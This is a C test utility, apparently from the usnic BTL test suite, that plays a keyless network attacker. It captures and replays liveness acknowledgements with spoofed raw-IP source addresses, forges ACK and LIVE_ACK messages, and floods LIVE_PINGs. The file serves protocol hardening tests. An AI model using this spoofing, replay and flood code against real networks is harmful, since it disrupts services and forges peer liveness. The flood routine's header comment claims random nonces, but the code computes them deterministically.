/*
 * Copyright (c) 2026 The usnic BTL authors.  All rights reserved.
 * $COPYRIGHT$
 * SPDX-License-Identifier: BSD-3-Clause
 *
 * usnic_connrogue: forger of usnic's connectivity and liveness messages (UDP), for the VM
 * tests (t-liveforge.sh). It knows no key: what it sends is what an attacker on the network
 * can send.
 *
 *   usnic_connrogue capture IFACE SRC_IP DST_IP SECONDS FILE
 *       record the LIVE_ACKs (magic ACK, type LIVE_ACK) from SRC_IP to DST_IP seen on IFACE
 *       (AF_PACKET) for SECONDS or until SIGTERM: addresses, ports and payload, one record
 *       each; prints how many
 *   usnic_connrogue replay FILE [FROM_IP] COUNT INTERVAL_MS
 *       send every recorded datagram again, COUNT rounds INTERVAL_MS apart, from its own
 *       source address and port (raw IP, spoofed) or from FROM_IP (its own, any port)
 *   usnic_connrogue forge FROM_IP:PORT TO_IP:PORT TYPE SIZE COUNT INTERVAL_MS
 *       TYPE live-ack or ack: COUNT rounds of such answers with SIZE (the busy milliseconds of
 *       a LIVE_ACK, the ping size of an ACK), each round the 16-byte format of the first
 *       version and the 32-byte one with random nonce and mac; FROM spoofed (raw IP)
 *   usnic_connrogue flood FROM_IP TO_IP:PORT SECONDS
 *       32-byte LIVE_PINGs with random nonce and mac as fast as possible; prints how many
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "btl_usnic_wire.h"

#define MAX_REC 256

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
    (void) sig;
    stop = 1;
}

typedef struct {
    uint32_t src_ip, dst_ip;    /* network order */
    uint16_t src_port, dst_port;
    uint16_t len;
    uint8_t payload[64];
} rec_t;

static void die(const char *what)
{
    fprintf(stderr, "usnic_connrogue: %s: %s\n", what, strerror(errno));
    exit(2);
}

static double now(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void parse_addr(const char *s, uint32_t *ip, uint16_t *port)
{
    char buf[64], *colon;

    snprintf(buf, sizeof(buf), "%s", s);
    colon = strchr(buf, ':');
    *port = 0;
    if (NULL != colon) {
        *colon = '\0';
        *port = htons((uint16_t) atoi(colon + 1));
    }
    if (1 != inet_pton(AF_INET, buf, ip)) {
        fprintf(stderr, "usnic_connrogue: not an IPv4 address: %s\n", s);
        exit(2);
    }
}

/* One UDP datagram with any source address (IP_HDRINCL). */
static void send_raw(int fd, uint32_t src_ip, uint16_t src_port, uint32_t dst_ip,
                     uint16_t dst_port, const void *payload, size_t len)
{
    uint8_t pkt[20 + 8 + 64];
    struct iphdr *ip = (struct iphdr *) pkt;
    struct udphdr *udp = (struct udphdr *) (pkt + 20);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = dst_ip};

    memset(pkt, 0, 28);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((uint16_t) (28 + len));
    ip->saddr = src_ip;
    ip->daddr = dst_ip;
    udp->source = src_port;
    udp->dest = dst_port;
    udp->len = htons((uint16_t) (8 + len));
    udp->check = 0;             /* none (IPv4) */
    memcpy(pkt + 28, payload, len);
    /* (the kernel fills in the IP checksum and id) */
    if (sendto(fd, pkt, 28 + len, 0, (struct sockaddr *) &to, sizeof(to)) < 0 &&
        ENOBUFS != errno) {
        die("sendto (raw)");
    }
}

static int raw_socket(void)
{
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), one = 1;

    if (fd < 0 || 0 != setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
        die("raw socket");
    }
    return fd;
}

/* A UDP socket bound to ip (any port). */
static int udp_socket(uint32_t ip)
{
    struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr.s_addr = ip};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    if (fd < 0 || 0 != bind(fd, (struct sockaddr *) &sin, sizeof(sin))) {
        die("udp socket");
    }
    return fd;
}

static int capture(int argc, char **argv)
{
    uint32_t src, dst;
    uint16_t port;
    double end;
    rec_t recs[MAX_REC];
    int n = 0, fd;
    struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
    FILE *f;

    if (7 != argc) {
        return 1;
    }
    parse_addr(argv[3], &src, &port);
    parse_addr(argv[4], &dst, &port);
    end = now() + atof(argv[5]);
    fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
    sll.sll_ifindex = (int) if_nametoindex(argv[2]);
    if (fd < 0 || 0 == sll.sll_ifindex || 0 != bind(fd, (struct sockaddr *) &sll, sizeof(sll))) {
        die("packet socket");
    }
    signal(SIGTERM, on_term);
    while (!stop && now() < end && n < MAX_REC) {
        struct pollfd p = {.fd = fd, .events = POLLIN};
        uint8_t buf[2048];
        const struct iphdr *ip = (const struct iphdr *) buf;
        const struct udphdr *udp;
        const usnic_conn_msg_t *m;
        ssize_t len;

        if (1 != poll(&p, 1, 100)) {
            continue;
        }
        len = recv(fd, buf, sizeof(buf), 0);
        if (len < 28 || 4 != ip->version || IPPROTO_UDP != ip->protocol || ip->saddr != src ||
            ip->daddr != dst || len < 4 * ip->ihl + 8 + (ssize_t) sizeof(*m)) {
            continue;
        }
        udp = (const struct udphdr *) (buf + 4 * ip->ihl);
        m = (const usnic_conn_msg_t *) (udp + 1);
        if (USNIC_CONN_MAGIC_ACK != m->magic || USNIC_CONN_LIVE_ACK != m->type) {
            continue;
        }
        recs[n].src_ip = ip->saddr;
        recs[n].dst_ip = ip->daddr;
        recs[n].src_port = udp->source;
        recs[n].dst_port = udp->dest;
        recs[n].len = (uint16_t) (ntohs(udp->len) - 8);
        if (recs[n].len > sizeof(recs[n].payload)) {
            continue;
        }
        memcpy(recs[n].payload, m, recs[n].len);
        ++n;
    }
    f = fopen(argv[6], "wb");
    if (NULL == f || (n > 0 && (size_t) n != fwrite(recs, sizeof(rec_t), (size_t) n, f)) ||
        0 != fclose(f)) {
        die("writing the capture");
    }
    printf("usnic_connrogue: captured %d LIVE_ACKs\n", n);
    return 0;
}

static int replay(int argc, char **argv)
{
    rec_t recs[MAX_REC];
    size_t n;
    uint32_t from = 0;
    uint16_t port;
    int count, interval, fd, sent = 0;
    FILE *f;

    if (5 != argc && 6 != argc) {
        return 1;
    }
    f = fopen(argv[2], "rb");
    if (NULL == f) {
        die(argv[2]);
    }
    n = fread(recs, sizeof(rec_t), MAX_REC, f);
    fclose(f);
    if (6 == argc) {
        parse_addr(argv[3], &from, &port);
    }
    count = atoi(argv[argc - 2]);
    interval = atoi(argv[argc - 1]);
    fd = 0 != from ? udp_socket(from) : raw_socket();
    for (int r = 0; r < count; ++r) {
        for (size_t i = 0; i < n; ++i) {
            if (0 != from) {
                struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = recs[i].dst_ip,
                                         .sin_port = recs[i].dst_port};
                (void) sendto(fd, recs[i].payload, recs[i].len, 0, (struct sockaddr *) &to,
                              sizeof(to));
            } else {
                send_raw(fd, recs[i].src_ip, recs[i].src_port, recs[i].dst_ip, recs[i].dst_port,
                         recs[i].payload, recs[i].len);
            }
            ++sent;
        }
        usleep((useconds_t) interval * 1000);
    }
    printf("usnic_connrogue: replayed %d datagrams\n", sent);
    return 0;
}

static int forge(int argc, char **argv)
{
    uint32_t from, to;
    uint16_t from_port, to_port;
    int count, interval, fd;
    uint8_t type;
    usnic_conn_msg_t m;

    if (8 != argc) {
        return 1;
    }
    parse_addr(argv[2], &from, &from_port);
    parse_addr(argv[3], &to, &to_port);
    type = 0 == strcmp(argv[4], "ack") ? USNIC_CONN_ACK : USNIC_CONN_LIVE_ACK;
    count = atoi(argv[6]);
    interval = atoi(argv[7]);
    fd = raw_socket();
    for (int r = 0; r < count; ++r) {
        memset(&m, 0, sizeof(m));
        m.magic = USNIC_CONN_MAGIC_ACK;
        m.type = type;
        m.size = (uint32_t) strtoul(argv[5], NULL, 0);
        send_raw(fd, from, from_port, to, to_port, &m, 16);
        if (sizeof(m.nonce) != getrandom(&m.nonce, sizeof(m.nonce), 0) ||
            sizeof(m.mac) != getrandom(&m.mac, sizeof(m.mac), 0)) {
            die("getrandom");
        }
        send_raw(fd, from, from_port, to, to_port, &m, sizeof(m));
        usleep((useconds_t) interval * 1000);
    }
    printf("usnic_connrogue: forged %d rounds\n", count);
    return 0;
}

static int flood(int argc, char **argv)
{
    uint32_t from, to;
    uint16_t port, to_port;
    struct sockaddr_in dst = {.sin_family = AF_INET};
    double end;
    long sent = 0;
    usnic_conn_msg_t m;
    int fd;

    if (5 != argc) {
        return 1;
    }
    parse_addr(argv[2], &from, &port);
    parse_addr(argv[3], &to, &to_port);
    end = now() + atof(argv[4]);
    fd = udp_socket(from);
    dst.sin_addr.s_addr = to;
    dst.sin_port = to_port;
    memset(&m, 0, sizeof(m));
    m.magic = USNIC_CONN_MAGIC_PING;
    m.type = USNIC_CONN_LIVE_PING;
    while (now() < end) {
        for (int i = 0; i < 64; ++i) {
            m.nonce = (uint64_t) sent * 0x9e3779b97f4a7c15ULL;
            m.mac = m.nonce ^ 0x5555555555555555ULL;
            if (sendto(fd, &m, sizeof(m), 0, (struct sockaddr *) &dst, sizeof(dst)) > 0) {
                ++sent;
            }
        }
    }
    printf("usnic_connrogue: flooded %ld pings\n", sent);
    return 0;
}

int main(int argc, char **argv)
{
    int rc = 1;

    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2) {
        if (0 == strcmp(argv[1], "capture")) {
            rc = capture(argc, argv);
        } else if (0 == strcmp(argv[1], "replay")) {
            rc = replay(argc, argv);
        } else if (0 == strcmp(argv[1], "forge")) {
            rc = forge(argc, argv);
        } else if (0 == strcmp(argv[1], "flood")) {
            rc = flood(argc, argv);
        }
    }
    if (1 == rc) {
        fprintf(stderr, "usage: see the comment at the top of test/rogue/usnic_connrogue.c\n");
    }
    return rc;
}
